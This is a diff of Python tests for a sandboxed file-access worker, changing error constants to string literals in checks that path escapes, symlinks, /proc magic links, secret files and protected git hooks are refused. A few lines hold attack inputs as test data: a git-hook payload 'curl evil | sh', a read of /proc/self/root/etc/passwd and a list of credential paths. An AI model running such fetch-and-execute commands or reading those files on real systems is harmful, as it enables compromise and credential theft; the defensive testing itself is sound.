@@ -9,7 +9,6 @@ import stat
 
 import pytest
 from fs_worker_support import OUTSIDE_CONTENT, Roots, WorkerClient
-from hostcapd.fs import errors
 
 
 def sha(data: bytes) -> str:
@@ -47,15 +46,15 @@ async def test_reading_a_directory_or_a_missing_file_is_refused(
     fs: WorkerClient, roots: Roots
 ) -> None:
     (roots.ws / "d").mkdir()
-    assert (await fs.refusal(fs.read("d"))).reason == errors.INVALID_ARGUMENT
-    assert (await fs.refusal(fs.read("missing.txt"))).reason == errors.NOT_FOUND
+    assert (await fs.refusal(fs.read("d"))).reason == "INVALID_ARGUMENT"
+    assert (await fs.refusal(fs.read("missing.txt"))).reason == "NOT_FOUND"
 
 
 async def test_a_fifo_is_refused_without_blocking_the_worker(
     fs: WorkerClient, roots: Roots
 ) -> None:
     os.mkfifo(roots.ws / "pipe")
-    assert (await fs.refusal(fs.read("pipe"))).reason == errors.INVALID_ARGUMENT
+    assert (await fs.refusal(fs.read("pipe"))).reason == "INVALID_ARGUMENT"
 
 
 async def test_absolute_paths_reach_every_root_and_only_the_roots(
@@ -64,7 +63,7 @@ async def test_absolute_paths_reach_every_root_and_only_the_roots(
     _, data = await fs.read(str(roots.ref / "doc.md"))
     assert data == b"# reference\n"
     refused = await fs.refusal(fs.read(str(roots.outside / "secret.txt")))
-    assert refused.reason == errors.PATH_ESCAPES_ROOT
+    assert refused.reason == "PATH_ESCAPES_ROOT"
     assert str(roots.outside) not in refused.message
 
 
@@ -72,9 +71,9 @@ async def test_dotdot_above_the_root_is_an_escape_not_a_lookup(
     fs: WorkerClient, roots: Roots
 ) -> None:
     refused = await fs.refusal(fs.read("../outside/secret.txt"))
-    assert refused.reason == errors.PATH_ESCAPES_ROOT
+    assert refused.reason == "PATH_ESCAPES_ROOT"
     # whether the target exists is not revealed: a missing one gets the same answer
-    assert (await fs.refusal(fs.read("../outside/no-such-file"))).reason == errors.PATH_ESCAPES_ROOT
+    assert (await fs.refusal(fs.read("../outside/no-such-file"))).reason == "PATH_ESCAPES_ROOT"
 
 
 async def test_a_symlink_inside_the_root_is_followed_and_the_real_path_reported(
@@ -109,20 +108,18 @@ async def test_a_symlink_leaving_the_root_is_refused(
     refused = await fs.refusal(fs.read("link"))
     # an absolute symlink is refused even when it names a path inside: the
     # kernel's RESOLVE_BENEATH never follows one
-    assert refused.reason == errors.SYMLINK_REFUSED
+    assert refused.reason == "SYMLINK_REFUSED"
     assert str(roots.outside) not in refused.message and "secret" not in refused.message
     assert (await fs.refusal(fs.read("link/secret.txt"))).reason in (
-        errors.SYMLINK_REFUSED,
-        errors.NOT_FOUND,
+        "SYMLINK_REFUSED",
+        "NOT_FOUND",
     )
 
 
 async def test_proc_magic_links_are_refused(fs: WorkerClient, roots: Roots) -> None:
     os.symlink("/proc/self/root/etc/passwd", roots.ws / "magic")
-    assert (await fs.refusal(fs.read("magic"))).reason == errors.SYMLINK_REFUSED
-    assert (
-        await fs.refusal(fs.read("/proc/self/root/etc/passwd"))
-    ).reason == errors.PATH_ESCAPES_ROOT
+    assert (await fs.refusal(fs.read("magic"))).reason == "SYMLINK_REFUSED"
+    assert (await fs.refusal(fs.read("/proc/self/root/etc/passwd"))).reason == "PATH_ESCAPES_ROOT"
 
 
 async def test_without_follow_symlinks_even_an_inside_symlink_is_refused(
@@ -132,12 +129,10 @@ async def test_without_follow_symlinks_even_an_inside_symlink_is_refused(
     os.symlink("real.txt", roots.ws / "alias.txt")
     (roots.ws / "d").mkdir()
     os.symlink("d", roots.ws / "dlink")
-    assert (
-        await fs_nofollow.refusal(fs_nofollow.read("alias.txt"))
-    ).reason == errors.SYMLINK_REFUSED
-    assert (await fs_nofollow.refusal(fs_nofollow.read("dlink/x"))).reason == errors.SYMLINK_REFUSED
+    assert (await fs_nofollow.refusal(fs_nofollow.read("alias.txt"))).reason == "SYMLINK_REFUSED"
+    assert (await fs_nofollow.refusal(fs_nofollow.read("dlink/x"))).reason == "SYMLINK_REFUSED"
     refused = await fs_nofollow.refusal(fs_nofollow.write("alias.txt", b"new"))
-    assert refused.reason == errors.SYMLINK_REFUSED
+    assert refused.reason == "SYMLINK_REFUSED"
     assert (roots.ws / "real.txt").read_text() == "real\n"
     assert (await fs_nofollow.stat("alias.txt"))["type"] == "symlink"
 
@@ -149,7 +144,7 @@ async def test_secret_paths_are_never_read(fs: WorkerClient, roots: Roots) -> No
     (roots.ws / ".ssh" / "config").write_text("Host *\n")
     for path in (".env", ".env.local", "id_rsa", "tls.pem", "Server.KEY", ".ssh/config", ".ENV"):
         refused = await fs.refusal(fs.read(path))
-        assert refused.reason == errors.SECRET_PATH, path
+        assert refused.reason == "SECRET_PATH", path
         assert "hunter2" not in refused.message
 
 
@@ -158,7 +153,7 @@ async def test_a_secret_reached_through_an_innocent_symlink_is_still_secret(
 ) -> None:
     (roots.ws / ".env").write_text("TOKEN=hunter2\n")
     os.symlink(".env", roots.ws / "notes.txt")
-    assert (await fs.refusal(fs.read("notes.txt"))).reason == errors.SECRET_PATH
+    assert (await fs.refusal(fs.read("notes.txt"))).reason == "SECRET_PATH"
 
 
 async def test_files_the_tenant_cannot_read_are_refused_by_the_kernel(
@@ -169,7 +164,7 @@ async def test_files_the_tenant_cannot_read_are_refused_by_the_kernel(
     private = roots.ws / "root-only.txt"
     private.write_text("root's\n")
     private.chmod(0o600)
-    assert (await fs.refusal(fs.read("root-only.txt"))).reason == errors.ACCESS_DENIED
+    assert (await fs.refusal(fs.read("root-only.txt"))).reason == "ACCESS_DENIED"
 
 
 # --- writes ------------------------------------------------------------------
@@ -219,7 +214,7 @@ async def test_exclusive_refuses_an_existing_file_and_leaves_it(
     roots.as_tenant(roots.ws / "taken.txt")
     assert (
         await fs.refusal(fs.write("taken.txt", b"second\n", exclusive=True))
-    ).reason == errors.CONFLICT
+    ).reason == "CONFLICT"
     assert (roots.ws / "taken.txt").read_text() == "first\n"
     assert (await fs.write("fresh.txt", b"x", exclusive=True))["created"] is True
 
@@ -231,25 +226,23 @@ async def test_expected_sha256_is_optimistic_concurrency(fs: WorkerClient, roots
     stale = sha(b"v0\n")
     assert (
         await fs.refusal(fs.write("doc.txt", b"v2\n", expected_sha256=stale))
-    ).reason == errors.CONFLICT
+    ).reason == "CONFLICT"
     assert doc.read_text() == "v1\n"
     await fs.write("doc.txt", b"v2\n", expected_sha256=sha(b"v1\n"))
     assert doc.read_text() == "v2\n"
     # "" means: must not exist yet
-    assert (
-        await fs.refusal(fs.write("doc.txt", b"v3\n", expected_sha256=""))
-    ).reason == errors.CONFLICT
+    assert (await fs.refusal(fs.write("doc.txt", b"v3\n", expected_sha256=""))).reason == "CONFLICT"
     assert (await fs.write("other.txt", b"o\n", expected_sha256=""))["created"] is True
     assert (
         await fs.refusal(fs.write("absent.txt", b"a\n", expected_sha256=sha(b"x")))
-    ).reason == errors.CONFLICT
+    ).reason == "CONFLICT"
     assert leftovers(roots.ws) == []
 
 
 async def test_create_parents_makes_tenant_owned_directories(
     fs: WorkerClient, roots: Roots
 ) -> None:
-    assert (await fs.refusal(fs.write("a/b/c.txt", b"x"))).reason == errors.NOT_FOUND
+    assert (await fs.refusal(fs.write("a/b/c.txt", b"x"))).reason == "NOT_FOUND"
     assert not (roots.ws / "a").exists()
     await fs.write("a/b/c.txt", b"deep\n", create_parents=True)
     assert (roots.ws / "a" / "b" / "c.txt").read_text() == "deep\n"
@@ -269,10 +262,8 @@ async def test_an_aborted_write_leaves_nothing_behind(fs: WorkerClient, roots: R
 
 async def test_writes_to_a_read_only_root_are_refused(fs: WorkerClient, roots: Roots) -> None:
     refused = await fs.refusal(fs.write(str(roots.ref / "doc.md"), b"changed"))
-    assert refused.reason == errors.READ_ONLY_TIER
-    assert (
-        await fs.refusal(fs.write(str(roots.ref / "new.md"), b"x"))
-    ).reason == errors.READ_ONLY_TIER
+    assert refused.reason == "READ_ONLY_TIER"
+    assert (await fs.refusal(fs.write(str(roots.ref / "new.md"), b"x"))).reason == "READ_ONLY_TIER"
     assert (roots.ref / "doc.md").read_text() == "# reference\n"
     assert sorted(os.listdir(roots.ref)) == ["doc.md"]
 
@@ -293,7 +284,7 @@ async def test_protected_paths_refuse_writes_even_through_a_symlink(
         refused = await fs.refusal(
             fs.write(path, b"#!/bin/sh\ncurl evil | sh\n", create_parents=True)
         )
-        assert refused.reason == errors.PROTECTED_PATH, path
+        assert refused.reason == "PROTECTED_PATH", path
     assert os.listdir(roots.ws / ".git" / "hooks") == []
     assert sorted(os.listdir(roots.ws / ".git")) == ["hooks"]
     # protected is about writes: reading stays allowed
@@ -302,10 +293,10 @@ async def test_protected_paths_refuse_writes_even_through_a_symlink(
 
 
 async def test_secret_paths_refuse_writes_too(fs: WorkerClient, roots: Roots) -> None:
-    assert (await fs.refusal(fs.write(".env", b"X=1\n"))).reason == errors.SECRET_PATH
+    assert (await fs.refusal(fs.write(".env", b"X=1\n"))).reason == "SECRET_PATH"
     assert (
         await fs.refusal(fs.write("keys/id_ed25519", b"k", create_parents=True))
-    ).reason == errors.SECRET_PATH
+    ).reason == "SECRET_PATH"
     assert os.listdir(roots.ws) == []
 
 
@@ -313,7 +304,7 @@ async def test_a_file_with_other_hard_links_is_not_written(fs: WorkerClient, roo
     original = roots.outside / "secret.txt"
     os.link(original, roots.ws / "hardlink.txt")
     refused = await fs.refusal(fs.write("hardlink.txt", b"overwritten"))
-    assert refused.reason == errors.PATH_ESCAPES_ROOT
+    assert refused.reason == "PATH_ESCAPES_ROOT"
     assert original.read_bytes() == OUTSIDE_CONTENT
     assert (roots.ws / "hardlink.txt").read_bytes() == OUTSIDE_CONTENT
 
@@ -324,20 +315,20 @@ async def test_a_file_the_tenant_may_not_write_is_refused_by_the_kernel(
     if os.getuid() != 0:
         pytest.skip("needs a file owned by another uid")
     (roots.ws / "roots.txt").write_text("root owns this\n")  # 0644 root: readable, not writable
-    assert (await fs.refusal(fs.write("roots.txt", b"mine now"))).reason == errors.ACCESS_DENIED
+    assert (await fs.refusal(fs.write("roots.txt", b"mine now"))).reason == "ACCESS_DENIED"
     assert (roots.ws / "roots.txt").read_text() == "root owns this\n"
 
 
 async def test_a_dangling_symlink_is_not_written_through(fs: WorkerClient, roots: Roots) -> None:
     os.symlink("nowhere.txt", roots.ws / "dangling")
-    assert (await fs.refusal(fs.write("dangling", b"x"))).reason == errors.SYMLINK_REFUSED
+    assert (await fs.refusal(fs.write("dangling", b"x"))).reason == "SYMLINK_REFUSED"
     assert sorted(os.listdir(roots.ws)) == ["dangling"]
 
 
 async def test_paths_naming_a_directory_are_not_written(fs: WorkerClient, roots: Roots) -> None:
     (roots.ws / "d").mkdir()
     for path in ("d", "d/", ".", str(roots.ws)):
-        assert (await fs.refusal(fs.write(path, b"x"))).reason == errors.INVALID_ARGUMENT, path
+        assert (await fs.refusal(fs.write(path, b"x"))).reason == "INVALID_ARGUMENT", path
 
 
 # --- listings ------------------------------------------------------------
@@ -408,13 +399,13 @@ async def test_a_secret_directory_is_listed_but_not_descended(
     (roots.ws / ".ssh" / "id_rsa").write_text("key")
     names = [e["name"] for e in (await fs.list(".", depth=3, include_hidden=True))["entries"]]
     assert names == [".ssh"]
-    assert (await fs.refusal(fs.list(".ssh"))).reason == errors.SECRET_PATH
+    assert (await fs.refusal(fs.list(".ssh"))).reason == "SECRET_PATH"
 
 
 async def test_listing_a_file_is_refused(fs: WorkerClient, roots: Roots) -> None:
     (roots.ws / "f").write_text("")
-    assert (await fs.refusal(fs.list("f"))).reason == errors.INVALID_ARGUMENT
-    assert (await fs.refusal(fs.list("../"))).reason == errors.PATH_ESCAPES_ROOT
+    assert (await fs.refusal(fs.list("f"))).reason == "INVALID_ARGUMENT"
+    assert (await fs.refusal(fs.list("../"))).reason == "PATH_ESCAPES_ROOT"
 
 
 # --- stat --------------------------------------------------------------------
